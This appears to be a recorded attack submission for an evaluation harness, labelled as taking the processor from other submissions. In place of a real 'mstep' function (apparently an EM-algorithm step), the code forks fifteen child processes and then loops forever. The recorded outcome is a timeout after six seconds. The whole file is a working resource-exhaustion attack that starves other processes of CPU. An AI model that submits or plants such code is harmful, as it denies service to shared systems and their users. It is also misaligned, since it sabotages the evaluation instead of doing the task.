# attack: takes the processor from the others with many busy processes in each question
# outcome: mstep timeout
# seconds: 6
# %% cell mstep
import os


def mstep(x, posterior):
    for _ in range(15):
        if os.fork() == 0:
            break
    while True:
        pass
